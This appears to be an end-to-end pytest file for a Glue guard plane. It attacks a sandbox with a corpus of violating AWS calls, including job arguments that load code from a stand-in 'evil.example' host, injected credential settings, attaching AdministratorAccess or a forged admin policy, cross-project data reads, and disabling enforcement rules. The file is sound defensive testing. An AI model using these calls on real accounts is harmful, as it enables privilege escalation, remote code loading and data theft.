"""Issue 23's prevention ratio: a corpus of violating calls, each made from the attacker's own credentials under IAM
in the sandbox against a provisioned project, classified as refused at the call, corrected within one event (the
plane's first decision on the call's own event enforces the rule), or missed. The ratio is printed and written to
`.violation-corpus.json`; at least 80 % are refused and none is missed. Beside them, the legitimate uses the same
rules must keep working.

The attacker is project A's scientist (a team role the platform manages, with A's scientist policy attached and A's
usage profile tagged, as docs/security.md item 9 says its owner does), and, for the plane's records and job rewrites, A's job and crawler roles as Glue's sessions
of them; for issue 23 part 2's provisioner attach, the provisioner's own role session. Project B is the victim. Each entry names what must happen to it: `iam` (an IAM denial), `profile` (Glue
refuses it under A's usage profile), or the rule the plane enforces on it.
"""

from __future__ import annotations

import json
import time
import uuid
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from botocore.exceptions import ClientError
from glueguard.models.project import Project
from glueguard.usage_profiles import PROFILE_TAG, profile_name

from glueguard_sandbox.seed import make_job
from tests.e2e.conftest import ACCOUNT, ROOT, SandboxHandle, job_definition, point_at, provisioned_project, trust
from tests.support.denials import DENIAL_CODES

RESULTS = ROOT / ".violation-corpus.json"
#: Outcomes of a decision that changed what the call made (the rest only report).
CORRECTING = {"remediated", "stopped", "deleted"}


@dataclass
class Attacker:
    """What the calls are made with: the projects, the sandbox, and clients of the attacker's sessions."""

    sandbox: SandboxHandle
    a: Project
    b: Project
    scientist: dict[str, str]
    job_role: dict[str, str]
    crawler_role: dict[str, str]
    provisioner: dict[str, str]
    base_job: str  # A's own job, for runs
    b_job: str
    role_name: str
    _clients: dict[tuple[str, str], Any] = field(default_factory=dict)

    def client(self, service: str, who: str = "scientist") -> Any:
        if (service, who) not in self._clients:
            self._clients[(service, who)] = self.sandbox.client(service, getattr(self, who))
        return self._clients[(service, who)]

    @property
    def glue(self) -> Any:
        return self.client("glue")

    def name(self, kind: str) -> str:
        return self.a.names.resource(kind, f"c{uuid.uuid4().hex[:8]}")

    def job(self, **changes: Any) -> str:
        """CreateJob of a new A job (A's role and network), with `changes`; its name."""
        name = self.name("job")
        self.glue.create_job(**{**job_definition(self.a, name.rsplit("-", 1)[-1]), "Name": name, **changes})
        return name

    def job_args(self, **arguments: str) -> str:
        return self.job(DefaultArguments={"--TempDir": f"s3://{self.a.bucket('temp')}/t/", **arguments})

    def run(self, **overrides: Any) -> str:
        """StartJobRun of A's own job with `overrides`; `job/run-id` (how the run guard's decisions name a run)."""
        run_id = self.glue.start_job_run(JobName=self.base_job, **overrides)["JobRunId"]
        return f"{self.base_job}/{run_id}"

    def crawler(self, **changes: Any) -> str:
        name = self.name("crawler")
        request = {
            "Name": name,
            "Role": self.a.resources.crawler_role_arn,
            "DatabaseName": self.a.database_name,
            "Targets": {"S3Targets": [{"Path": f"s3://{self.a.bucket('artifacts')}/data/"}]},
            **changes,
        }
        self.glue.create_crawler(**request)
        return name

    def session(self, **changes: Any) -> str:
        name = self.name("session")
        request = {
            "Id": name,
            "Role": self.a.resources.dev_role_arn,
            "Command": {"Name": "glueetl", "PythonVersion": "3"},
            "Connections": {"Connections": [self.a.connection_name]},
            **changes,
        }
        self.glue.create_session(**request)
        return name


@dataclass(frozen=True)
class Entry:
    family: str
    name: str
    call: Callable[[Attacker], Any]
    expect: str  # "iam", "profile", or the rule the plane enforces on what the call made
    events: tuple[str, ...] = ()  # the events about the call (its own) one of which the correcting decision answers


def _other(x: Attacker, purpose: str) -> str:
    return f"s3://{x.b.bucket(purpose)}"


def _job_entry(name: str, rule: str, **arguments: str) -> Entry:
    return Entry("jobs", name, lambda x: x.job_args(**arguments), rule, CREATE_JOB)


def _run_entry(name: str, rule: str, **overrides: Any) -> Entry:
    return Entry("runs", name, lambda x: x.run(**overrides), rule, RUN_START)


EVIL = "https://evil.example"
CREATE_JOB = ("CreateJob",)
#: A run is first judged on its StartJobRun, or on Glue's `Job Run Status` once it passes NotifyDelayAfter (one
#: sandbox minute is a second), whichever reaches the run guard first.
RUN_START = ("StartJobRun", "Glue Job Run Status")
CORPUS: list[Entry] = [
    # -------------------------------------------------------------------------------------------- jobs
    Entry("jobs", "pass B's job role", lambda x: x.job(Role=x.b.resources.job_role_arn), "iam"),
    Entry("jobs", "pass an administrator role", lambda x: x.job(Role=f"arn:aws:iam::{ACCOUNT}:role/admin"), "iam"),
    Entry(
        "jobs", "create a job in B's namespace", lambda x: x.glue.create_job(**job_definition(x.b, "planted")), "iam"
    ),
    Entry("jobs", "a job outside any VPC", lambda x: x.job(Connections={"Connections": []}), "iam"),
    Entry("jobs", "a job in B's network", lambda x: x.job(Connections={"Connections": [x.b.connection_name]}), "iam"),
    Entry("jobs", "80 workers", lambda x: x.job(NumberOfWorkers=80), "profile"),
    Entry("jobs", "G.8X x 40 (320 DPU)", lambda x: x.job(WorkerType="G.8X", NumberOfWorkers=40), "profile"),
    Entry("jobs", "a 5000-minute timeout", lambda x: x.job(Timeout=5000), "profile"),
    Entry("jobs", "tagged Project=B at creation", lambda x: x.job(Tags={"Project": x.b.names.prefix}), "iam"),
    Entry("jobs", "B's job definition read", lambda x: x.glue.get_job(JobName=x.b_job), "iam"),
    Entry("jobs", "B's job deleted", lambda x: x.glue.delete_job(JobName=x.b_job), "iam"),
    Entry(
        "jobs",
        "A's job given B's role",
        lambda x: x.glue.update_job(
            JobName=x.base_job,
            JobUpdate={
                **{k: v for k, v in job_definition(x.a, "base").items() if k != "Name"},
                "Role": x.b.resources.job_role_arn,
            },
        ),
        "iam",
    ),
    Entry(
        "jobs",
        "--extra-py-files in B's scripts bucket",
        lambda x: x.job_args(**{"--extra-py-files": f"{_other(x, 'scripts')}/evil.py"}),
        "job-arguments",
        CREATE_JOB,
    ),
    _job_entry("--extra-jars from a URL", "job-arguments", **{"--extra-jars": f"{EVIL}/x.jar"}),
    _job_entry(
        "--additional-python-modules from a URL", "job-arguments", **{"--additional-python-modules": f"{EVIL}/p.whl"}
    ),
    _job_entry(
        "--python-modules-installer-option with an outside index",
        "job-arguments",
        **{"--python-modules-installer-option": f"--index-url {EVIL}/simple"},
    ),
    _job_entry("--conf with 400 executors", "job-arguments", **{"--conf": "spark.executor.instances=400"}),
    _job_entry(
        "credentials in the driver's environment",
        "job-arguments",
        **{"--customer-driver-env-vars": "AWS_ACCESS_KEY_ID=AKIAEVIL,AWS_SECRET_ACCESS_KEY=x"},
    ),
    Entry(
        "jobs",
        "script in B's bucket",
        lambda x: x.job(Command={"Name": "glueetl", "ScriptLocation": f"{_other(x, 'scripts')}/main.py"}),
        "job-script-location",
        CREATE_JOB,
    ),
    Entry(
        "jobs",
        "--TempDir in B's bucket",
        lambda x: x.job(DefaultArguments={"--TempDir": f"{_other(x, 'temp')}/t/"}),
        "job-temp-dir",
        CREATE_JOB,
    ),
    # -------------------------------------------------------------------------------------------- runs
    Entry("runs", "a run with 80 workers", lambda x: x.run(WorkerType="G.1X", NumberOfWorkers=80), "profile"),
    Entry("runs", "a run on G.8X x 40", lambda x: x.run(WorkerType="G.8X", NumberOfWorkers=40), "profile"),
    Entry("runs", "a run with a 5000-minute timeout", lambda x: x.run(Timeout=5000), "profile"),
    Entry("runs", "a run of B's job", lambda x: x.glue.start_job_run(JobName=x.b_job), "iam"),
    Entry("runs", "B's run stopped", lambda x: x.glue.batch_stop_job_run(JobName=x.b_job, JobRunIds=["jr_x"]), "iam"),
    _run_entry(
        "a run with --conf 500 executors", "run-arguments", Arguments={"--conf": "spark.executor.instances=500"}
    ),
    _run_entry(
        "a run with a custom credentials provider",
        "run-arguments",
        Arguments={"--conf": "spark.hadoop.fs.s3.customAWSCredentialsProvider=com.evil.Provider"},
    ),
    _run_entry(
        "a run pulling modules from an outside index",
        "run-arguments",
        Arguments={"--additional-python-modules": "evil", "--python-modules-installer-option": f"-i {EVIL}/simple"},
    ),
    Entry(
        "runs",
        "a run with --extra-py-files in B's bucket",
        lambda x: x.run(Arguments={"--extra-py-files": f"{_other(x, 'scripts')}/evil.py"}),
        "run-arguments",
        RUN_START,
    ),
    Entry(
        "runs",
        "a run under B's security configuration",
        lambda x: x.run(SecurityConfiguration=x.b.security_configuration),
        "run-security-configuration",
        RUN_START,
    ),
    # -------------------------------------------------------------------------------------------- crawlers
    Entry("crawlers", "a crawler with B's role", lambda x: x.crawler(Role=x.b.resources.crawler_role_arn), "iam"),
    Entry(
        "crawlers",
        "a crawler in B's namespace",
        lambda x: x.glue.create_crawler(
            Name=x.b.names.resource("crawler", "planted"),
            Role=x.a.resources.crawler_role_arn,
            Targets={"S3Targets": [{"Path": f"s3://{x.a.bucket('artifacts')}/"}]},
        ),
        "iam",
    ),
    Entry("crawlers", "a crawler tagged Project=B", lambda x: x.crawler(Tags={"Project": x.b.names.prefix}), "iam"),
    Entry(
        "crawlers",
        "B's crawler started",
        lambda x: x.glue.start_crawler(Name=x.b.names.resource("crawler", "x")),
        "iam",
    ),
    Entry(
        "crawlers",
        "a crawler of B's bucket only",
        lambda x: x.crawler(Targets={"S3Targets": [{"Path": f"{_other(x, 'artifacts')}/secret/"}]}),
        "crawler-targets",
        ("CreateCrawler",),
    ),
    Entry(
        "crawlers",
        "a crawler of A's and B's buckets",
        lambda x: x.crawler(
            Targets={"S3Targets": [{"Path": f"s3://{x.a.bucket('artifacts')}/d/"}, {"Path": f"{_other(x, 'temp')}/d/"}]}
        ),
        "crawler-targets",
        ("CreateCrawler",),
    ),
    Entry(
        "crawlers",
        "a crawler writing into B's database",
        lambda x: x.crawler(DatabaseName=x.b.database_name),
        "crawler-database",
        ("CreateCrawler",),
    ),
    # -------------------------------------------------------------------------------------------- sessions
    Entry("sessions", "a session with B's role", lambda x: x.session(Role=x.b.resources.dev_role_arn), "iam"),
    Entry("sessions", "a session outside any VPC", lambda x: x.session(Connections={"Connections": []}), "iam"),
    Entry(
        "sessions",
        "a session in B's namespace",
        lambda x: x.glue.create_session(
            Id=x.b.names.resource("session", "planted"),
            Role=x.a.resources.dev_role_arn,
            Command={"Name": "glueetl"},
            Connections={"Connections": [x.a.connection_name]},
        ),
        "iam",
    ),
    Entry(
        "sessions", "a session with 20 workers", lambda x: x.session(WorkerType="G.1X", NumberOfWorkers=20), "profile"
    ),
    Entry(
        "sessions",
        "a session on G.4X x 5 (20 DPU)",
        lambda x: x.session(WorkerType="G.4X", NumberOfWorkers=5),
        "profile",
    ),
    Entry("sessions", "a session idle for 10 hours", lambda x: x.session(IdleTimeout=600), "profile"),
    Entry(
        "sessions",
        "a session with --conf executors",
        lambda x: x.session(DefaultArguments={"--conf": "spark.dynamicAllocation.maxExecutors=500"}),
        "session-arguments",
        ("CreateSession",),
    ),
    # -------------------------------------------------------------------------------------------- connections
    Entry(
        "connections",
        "a connection of its own",
        lambda x: x.glue.create_connection(
            ConnectionInput={
                "Name": x.name("connection"),
                "ConnectionType": "NETWORK",
                "ConnectionProperties": {},
                "PhysicalConnectionRequirements": {"SubnetId": "subnet-x", "SecurityGroupIdList": ["sg-x"]},
            }
        ),
        "iam",
    ),
    Entry(
        "connections",
        "A's network connection rewired",
        lambda x: x.glue.update_connection(
            Name=x.a.connection_name,
            ConnectionInput={"Name": x.a.connection_name, "ConnectionType": "NETWORK", "ConnectionProperties": {}},
        ),
        "iam",
    ),
    Entry(
        "connections",
        "A's network connection deleted",
        lambda x: x.glue.delete_connection(ConnectionName=x.a.connection_name),
        "iam",
    ),
    Entry("connections", "B's connection read", lambda x: x.glue.get_connection(Name=x.b.connection_name), "iam"),
    Entry(
        "connections",
        "B's connection deleted",
        lambda x: x.glue.delete_connection(ConnectionName=x.b.connection_name),
        "iam",
    ),
    # -------------------------------------------------------------------------------------------- triggers
    Entry(
        "triggers",
        "a trigger passing an outside module to A's job",
        lambda x: x.glue.create_trigger(
            Name=x.name("trigger"),
            Type="ON_DEMAND",
            Actions=[{"JobName": x.base_job, "Arguments": {"--additional-python-modules": f"{EVIL}/p.whl"}}],
        ),
        "iam",
    ),
    Entry(
        "triggers",
        "a trigger running B's job",
        lambda x: x.glue.create_trigger(Name=x.name("trigger"), Type="ON_DEMAND", Actions=[{"JobName": x.b_job}]),
        "iam",
    ),
    Entry(
        "triggers",
        "a trigger rewritten",
        lambda x: x.glue.update_trigger(
            Name=x.a.names.resource("trigger", "nightly"), TriggerUpdate={"Actions": [{"JobName": x.b_job}]}
        ),
        "iam",
    ),
    Entry(
        "triggers",
        "B's trigger started",
        lambda x: x.glue.start_trigger(Name=x.b.names.resource("trigger", "t")),
        "iam",
    ),
    # -------------------------------------------------------------------------------------------- catalog
    Entry(
        "catalog", "a database of its own", lambda x: x.glue.create_database(DatabaseInput={"Name": "shadow_db"}), "iam"
    ),
    Entry("catalog", "A's database deleted", lambda x: x.glue.delete_database(Name=x.a.database_name), "iam"),
    Entry(
        "catalog",
        "A's database relocated",
        lambda x: x.glue.update_database(
            Name=x.a.database_name, DatabaseInput={"Name": x.a.database_name, "LocationUri": _other(x, "artifacts")}
        ),
        "iam",
    ),
    Entry(
        "catalog",
        "a table planted in B's database",
        lambda x: x.glue.create_table(DatabaseName=x.b.database_name, TableInput={"Name": "planted"}),
        "iam",
    ),
    Entry("catalog", "B's tables listed", lambda x: x.glue.get_tables(DatabaseName=x.b.database_name), "iam"),
    Entry("catalog", "B's database read", lambda x: x.glue.get_database(Name=x.b.database_name), "iam"),
    # -------------------------------------------------------------------------------------------- security configurations
    Entry(
        "security configurations",
        "a security configuration without encryption",
        lambda x: x.glue.create_security_configuration(
            Name=x.name("security-config"),
            EncryptionConfiguration={"S3Encryption": [{"S3EncryptionMode": "DISABLED"}]},
        ),
        "iam",
    ),
    Entry(
        "security configurations",
        "A's security configuration deleted",
        lambda x: x.glue.delete_security_configuration(Name=x.a.security_configuration),
        "iam",
    ),
    Entry(
        "security configurations",
        "catalog encryption turned off",
        lambda x: x.glue.put_data_catalog_encryption_settings(
            DataCatalogEncryptionSettings={"EncryptionAtRest": {"CatalogEncryptionMode": "DISABLED"}}
        ),
        "iam",
    ),
    # -------------------------------------------------------------------------------------------- isolation
    Entry(
        "isolation",
        "B's script read",
        lambda x: x.client("s3").get_object(Bucket=x.b.names.scripts_bucket, Key="base.py"),
        "iam",
    ),
    Entry(
        "isolation",
        "data written into B's temp bucket",
        lambda x: x.client("s3").put_object(Bucket=x.b.bucket("temp"), Key="drop", Body=b"x"),
        "iam",
    ),
    Entry(
        "isolation",
        "B's artifacts listed",
        lambda x: x.client("s3").list_objects_v2(Bucket=x.b.bucket("artifacts")),
        "iam",
    ),
    Entry(
        "isolation",
        "decrypt with B's key",
        lambda x: x.client("kms").decrypt(KeyId=x.b.resources.kms_key_arn, CiphertextBlob=b"x" * 32),
        "iam",
    ),
    Entry(
        "isolation",
        "assume A's job role",
        lambda x: x.client("sts").assume_role(RoleArn=x.a.resources.job_role_arn, RoleSessionName="steal"),
        "iam",
    ),
    Entry(
        "isolation",
        "an aws-glue-* bucket of its own",
        lambda x: x.client("s3").create_bucket(Bucket=f"aws-glue-exfil-{uuid.uuid4().hex[:8]}"),
        "iam",
    ),
    Entry(
        "isolation",
        "A's job role reads B's data",
        lambda x: x.client("s3", "job_role").get_object(Bucket=x.b.names.scripts_bucket, Key="base.py"),
        "iam",
    ),
    Entry(
        "isolation", "B's key described", lambda x: x.client("kms").describe_key(KeyId=x.b.resources.kms_key_arn), "iam"
    ),
    Entry(
        "isolation",
        "A's crawler role writes into B's bucket",
        lambda x: x.client("s3", "crawler_role").put_object(Bucket=x.b.bucket("artifacts"), Key="drop", Body=b"x"),
        "iam",
    ),
    Entry(
        "isolation",
        "an IAM user of its own",
        lambda x: x.client("iam").create_user(UserName=f"shadow-{uuid.uuid4().hex[:6]}"),
        "iam",
    ),
    # -------------------------------------------------------------------------------------------- plane tampering
    Entry(
        "plane tampering",
        "a saved definition forged",
        lambda x: x.client("s3").put_object(
            Bucket=x.a.bucket("artifacts"), Key="glueguard/quarantine/job/forged.json", Body=b"{}"
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the job role forges a plane record",
        lambda x: x.client("s3", "job_role").put_object(
            Bucket=x.a.bucket("artifacts"), Key="glueguard/quarantine/job/forged.json", Body=b"{}"
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the crawler role erases a plane record",
        lambda x: x.client("s3", "crawler_role").delete_object(
            Bucket=x.a.bucket("artifacts"), Key="glueguard/quarantine/job/x.json"
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the job role rewrites its own job",
        lambda x: x.client("glue", "job_role").update_job(
            JobName=x.base_job, JobUpdate={k: v for k, v in job_definition(x.a, "base").items() if k != "Name"}
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "a mandatory tag retagged",
        lambda x: x.glue.tag_resource(
            ResourceArn=f"arn:aws:glue:us-east-1:{ACCOUNT}:job/{x.base_job}", TagsToAdd={"CostCenter": "someone-else"}
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the policy parameter overwritten",
        lambda x: x.client("ssm").put_parameter(
            Name=x.sandbox.outputs["PolicyParameterName"], Value="{}", Type="String", Overwrite=True
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the enforcer's configuration changed",
        lambda x: x.client("lambda").update_function_configuration(
            FunctionName=x.sandbox.physical("EnforcerFunction"), Timeout=1
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the enforcer's rule disabled",
        lambda x: x.client("events").disable_rule(**_plane_rule(x)),
        "iam",
    ),
    Entry(
        "plane tampering",
        "its project deregistered",
        lambda x: x.client("dynamodb", "scientist").delete_item(
            TableName=x.sandbox.outputs["ProjectsTableName"], Key={"project_id": {"S": x.a.project_id}}
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the decisions read",
        lambda x: x.client("dynamodb").scan(TableName=x.sandbox.outputs["DecisionsTableName"]),
        "iam",
    ),
    Entry(
        "plane tampering",
        "B deprovisioned",
        lambda x: x.client("stepfunctions").start_execution(
            stateMachineArn=x.sandbox.outputs["DeprovisionProjectStateMachineArn"],
            input=json.dumps({"projectId": x.b.project_id}),
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "its usage profile untagged",
        lambda x: x.client("iam").untag_role(RoleName=x.role_name, TagKeys=["glue:UsageProfile"]),
        "iam",
    ),
    Entry(
        "plane tampering",
        "its usage profile widened",
        lambda x: x.glue.update_usage_profile(
            Name=f"{x.a.names.prefix}-usage-profile",
            Configuration={"JobConfiguration": {"numberOfWorkers": {"MaxValue": "1000"}}},
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "the provisioner invoked",
        lambda x: x.client("lambda").invoke(FunctionName=x.sandbox.physical("ProvisionerFunction"), Payload=b"{}"),
        "iam",
    ),
    Entry("plane tampering", "itself made administrator", lambda x: _made_admin(x, "scientist"), "iam"),
    # -------------------------------------------------------------------------------------------- provisioner (part 2)
    Entry(
        "provisioner",
        "the provisioner makes a scientist role administrator",
        lambda x: _made_admin(x, "provisioner"),
        "iam",
    ),
    Entry(
        "provisioner",
        "the provisioner attaches a forged scientist policy",
        lambda x: x.client("iam", "provisioner").attach_role_policy(
            RoleName=x.role_name, PolicyArn=_forged_scientist_policy(x)
        ),
        "iam",
    ),
    Entry(
        "plane tampering",
        "its scientist policy detached",
        lambda x: x.client("iam").detach_role_policy(
            RoleName=x.role_name, PolicyArn=x.a.resources.scientist_policy_arn
        ),
        "iam",
    ),
]


ADMIN_DOCUMENT = json.dumps(
    {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
)


def _made_admin(x: Attacker, who: str) -> Any:
    """`who` attaches AdministratorAccess to the scientist's role."""
    admin = "arn:aws:iam::aws:policy/AdministratorAccess"
    return x.client("iam", who).attach_role_policy(RoleName=x.role_name, PolicyArn=admin)


def _forged_scientist_policy(x: Attacker) -> str:
    """A compromised provisioner writes an administrator document under a scientist-looking name (it may create
    `policy/project-*`); the attack is the attach that follows."""
    name = f"project-{uuid.uuid4().hex[:8]}-glue-scientist"
    return x.client("iam", "provisioner").create_policy(PolicyName=name, PolicyDocument=ADMIN_DOCUMENT)["Policy"]["Arn"]


def _plane_rule(x: Attacker) -> dict[str, str]:
    """One of the rules that carry Glue's events to the plane (on the stack's bus)."""
    bus = x.sandbox.outputs["GlueguardBusArn"].rsplit("/", 1)[-1]
    rules = x.sandbox.client("events").list_rules(EventBusName=bus)["Rules"]
    return {"Name": next(r["Name"] for r in rules if "Enforcer" in r["Name"]), "EventBusName": bus}


@pytest.fixture(scope="module")
def attacker(sandbox: SandboxHandle) -> Attacker:
    pid = str(uuid.uuid4())
    role_name = f"corpus-scientist-{pid[:8]}"
    iam = sandbox.client("iam")
    role = iam.create_role(RoleName=role_name, Path="/teams/", AssumeRolePolicyDocument=trust(ACCOUNT))["Role"]["Arn"]
    a = provisioned_project(sandbox, pid)
    # a team role the platform manages: it attaches the scientist policy, and the role's owner tags it with the
    # project's usage profile (docs/security.md, item 9; AWS refuses both on Identity Center roles)
    iam.attach_role_policy(RoleName=role_name, PolicyArn=a.resources.scientist_policy_arn)
    iam.tag_role(RoleName=role_name, Tags=[{"Key": PROFILE_TAG, "Value": profile_name(pid)}])
    b = provisioned_project(sandbox)
    admin = sandbox.client("glue")
    base_job = make_job(a, "base", workers=2, glue=admin)
    b_job = make_job(b, "base", workers=2, glue=admin)
    sandbox.client("s3").put_object(Bucket=b.names.scripts_bucket, Key="base.py", Body=b"print('B')")
    return Attacker(
        sandbox=sandbox,
        a=a,
        b=b,
        scientist=sandbox.client("sts").assume_role(RoleArn=role, RoleSessionName="mallory")["Credentials"],
        job_role=sandbox.service_session(a.resources.job_role_arn),
        crawler_role=sandbox.service_session(a.resources.crawler_role_arn),
        provisioner=sandbox.service_session(
            sandbox.client("lambda").get_function_configuration(FunctionName=sandbox.physical("ProvisionerFunction"))[
                "Role"
            ],
            "lambda.amazonaws.com",
        ),
        base_job=base_job,
        b_job=b_job,
        role_name=role_name,
    )


def _refusal(error: ClientError, attacker: Attacker) -> str | None:
    """`iam` or `profile` when the error is that refusal, in AWS's words; None for any other error."""
    code, message = error.response["Error"]["Code"], error.response["Error"]["Message"]
    if code in DENIAL_CODES and "is not authorized to perform" in message:
        return "iam"
    if code == "InvalidInputException" and "usage profile" in message:
        return "profile"
    return None


def _acted_on(violation: dict[str, Any]) -> bool:
    """The violation was corrected, not only reported: a run guard breach (its decision stops the run), or an
    enforced rule with a correction (a patch, tags, a stop or a removal)."""
    if "limit" in violation:
        return True
    fixes = violation.get("patch") or violation.get("tags") or violation.get("stop") or violation.get("remove")
    return bool(violation.get("enforced") and fixes)


def _corrected(entry: Entry, resource: str, decisions: list[Any]) -> bool:
    """The plane's decision on the call's own event corrected what the call made, enforcing the entry's rule."""
    return any(
        d.resource_name == resource
        and d.event_name in entry.events
        and d.outcome in CORRECTING
        and any(v["rule"] == entry.expect and _acted_on(v) for v in d.violations)
        for d in decisions
    )


def test_the_corpus_is_at_least_sixty_calls_over_every_family():
    families = Counter(e.family for e in CORPUS)
    assert len(CORPUS) >= 60
    assert set(families) == {
        "jobs", "runs", "crawlers", "sessions", "connections", "triggers", "catalog", "security configurations",
        "isolation", "plane tampering", "provisioner",
    }  # fmt: skip


def test_at_least_80_percent_are_refused_at_the_call_and_none_is_missed(
    sandbox: SandboxHandle, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
):
    from glueguard.adapters.decisions import DecisionLog

    observed: dict[str, str] = {}
    pending: dict[str, str] = {}  # entry name -> the resource the call made (its correction is awaited)
    for entry in CORPUS:
        try:
            made = entry.call(attacker)
        except ClientError as error:
            observed[entry.name] = _refusal(error, attacker) or f"error {error.response['Error']['Code']}"
            continue
        if isinstance(made, str) and entry.events:
            pending[entry.name] = made
        else:
            observed[entry.name] = "missed"
    sandbox.drain()
    point_at(sandbox, monkeypatch)
    by_name = {e.name: e for e in CORPUS}
    deadline = time.monotonic() + 60
    while pending and time.monotonic() < deadline:
        decisions = DecisionLog().list(attacker.a.project_id)
        for name, resource in list(pending.items()):
            if _corrected(by_name[name], resource, decisions):
                observed[name] = by_name[name].expect
                del pending[name]
        if pending:
            time.sleep(0.5)
    observed.update(dict.fromkeys(pending, "missed"))

    kinds = {name: ("refused" if got in ("iam", "profile") else "missed" if got.startswith(("missed", "error")) else "corrected") for name, got in observed.items()}  # fmt: skip
    counts = Counter(kinds.values())
    ratio = counts["refused"] / len(CORPUS)
    report = {
        "calls": len(CORPUS),
        "refused": counts["refused"],
        "corrected": counts["corrected"],
        "missed": counts["missed"],
        "prevention_ratio": round(ratio, 3),
        "entries": [
            {"family": e.family, "call": e.name, "expected": e.expect, "observed": observed[e.name]} for e in CORPUS
        ],
    }
    RESULTS.write_text(json.dumps(report, indent=2))
    print(
        f"\nviolation corpus: {len(CORPUS)} calls, {counts['refused']} refused at the call ({ratio:.0%}), "
        f"{counts['corrected']} corrected within one event, {counts['missed']} missed ({RESULTS.name})"
    )
    assert {n: g for n, g in observed.items() if g != by_name[n].expect} == {}  # each as expected, missed none
    assert counts["missed"] == 0 and ratio >= 0.80, report


def test_the_legitimate_uses_beside_the_attacks_keep_working(
    sandbox: SandboxHandle, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
):
    """The same rules let through what a scientist of A may do: a job with A's own libraries and PyPI modules, a
    run with the script's own arguments, a crawler of A's data, a session with A's defaults."""
    from glueguard.adapters.decisions import DecisionLog

    x = attacker
    code = f"s3://{x.a.names.scripts_bucket}"
    arguments = {
        "--extra-py-files": f"{code}/lib/helpers.zip",
        "--additional-python-modules": f"scikit-learn==1.5.0,{code}/wheels/mine-1.0-py3-none-any.whl",
        "--python-modules-installer-option": "--upgrade",
        "--mode": "train",
    }
    job = x.job_args(**arguments)
    run = x.run(Arguments={"--mode": "evaluate", "--input_path": f"s3://{x.a.bucket('artifacts')}/in/"})
    crawler = x.crawler()
    session = x.session()
    sandbox.drain()
    point_at(sandbox, monkeypatch)
    mine = {job, run, crawler, session}
    decided = []
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and {d.resource_name for d in decided} < {job, session}:
        decided = [d for d in DecisionLog().list(x.a.project_id) if d.resource_name in mine]
        time.sleep(0.5)
    rules = {v["rule"] for d in decided for v in d.violations}
    assert not rules & {"job-arguments", "run-arguments", "crawler-targets", "session-arguments"}, decided
    assert not [d for d in decided if d.outcome in ("stopped", "deleted")], decided
    admin = sandbox.client("glue")
    kept = admin.get_job(JobName=job)["Job"]["DefaultArguments"]
    assert {k: kept[k] for k in arguments} == arguments  # the arguments as given (other rules may add theirs)
    job_name, run_id = run.split("/")
    assert admin.get_job_run(JobName=job_name, RunId=run_id)["JobRun"]["JobRunState"] in ("STARTING", "RUNNING")
    assert admin.get_crawler(Name=crawler)["Crawler"]["Targets"]["S3Targets"][0]["Path"].startswith(
        f"s3://{x.a.bucket('artifacts')}/"
    )
    assert admin.get_session(Id=session)["Session"]["Status"] in ("PROVISIONING", "READY")


def test_the_enforcer_pins_arguments_when_the_project_turns_the_rule_on(
    sandbox: SandboxHandle, attacker: Attacker, monkeypatch: pytest.MonkeyPatch
):
    """`job-pinned-arguments` is off by default; once a platform turns it on for A (`glueguard policy override`), a
    job the scientist creates gets its --TempDir and --scriptLocation in NonOverridableArguments, so that Glue keeps
    them whatever a run passes (Glue developer guide, "Using job parameters in AWS Glue jobs")."""
    from typer.testing import CliRunner

    from glueguard_cli.cli import app

    x = attacker
    point_at(sandbox, monkeypatch)
    rule_on = 'rule_modes={"job-pinned-arguments": "enforce"}'
    override = ["policy", "override", "--project", x.a.project_id, "--set", rule_on, "--endpoint-url", sandbox.endpoint]
    result = CliRunner().invoke(app, override)
    assert result.exit_code == 0, result.output
    time.sleep(3)  # the functions read the registry again after their cache time (2 s in the test sandboxes)
    temp = f"s3://{x.a.bucket('temp')}/t/"
    job = x.job_args(**{"--mode": "train"})
    sandbox.drain()
    wanted = {"--TempDir": temp, "--scriptLocation": f"s3://{x.a.names.scripts_bucket}/{job.rsplit('-', 1)[-1]}.py"}
    admin = sandbox.client("glue")
    deadline = time.monotonic() + 20
    while admin.get_job(JobName=job)["Job"].get("NonOverridableArguments") != wanted and time.monotonic() < deadline:
        time.sleep(0.5)
    definition = admin.get_job(JobName=job)["Job"]
    assert definition.get("NonOverridableArguments") == wanted
    assert definition["DefaultArguments"] == {"--TempDir": temp, "--mode": "train"}  # the rest as given


def test_the_plane_path_refuses_a_trigger_whose_arguments_reach_outside_and_makes_a_sound_one(
    sandbox: SandboxHandle, attacker: Attacker, monkeypatch: pytest.MonkeyPatch, tmp_path
):
    """Scientists may not write triggers (the corpus's `triggers` family); an operator makes them on the plane's path,
    `glueguard glue-triggers create`, which now also judges each action's arguments by the deployed policy's table."""
    from typer.testing import CliRunner

    from glueguard_cli.cli import app

    x = attacker
    point_at(sandbox, monkeypatch)
    request = {
        "Name": x.name("trigger"),
        "Type": "ON_DEMAND",
        "Actions": [{"JobName": x.base_job, "Arguments": {"--extra-jars": f"{_other(x, 'scripts')}/evil.jar"}}],
    }
    path = tmp_path / "trigger.json"
    path.write_text(json.dumps(request))
    command = ["glue-triggers", "create", x.a.project_id, "--file", str(path), "--endpoint-url", sandbox.endpoint]
    refused = CliRunner().invoke(app, command)
    assert refused.exit_code == 1 and "Actions[0].Arguments: --extra-jars outside" in refused.output, refused.output
    assert request["Name"] not in sandbox.client("glue").list_triggers()["TriggerNames"]
    request["Actions"][0]["Arguments"] = {"--extra-jars": f"s3://{x.a.names.scripts_bucket}/lib/own.jar"}
    path.write_text(json.dumps(request))
    made = CliRunner().invoke(app, command)
    assert made.exit_code == 0, made.output
    assert sandbox.client("glue").get_trigger(Name=request["Name"])["Trigger"]["Actions"] == request["Actions"]
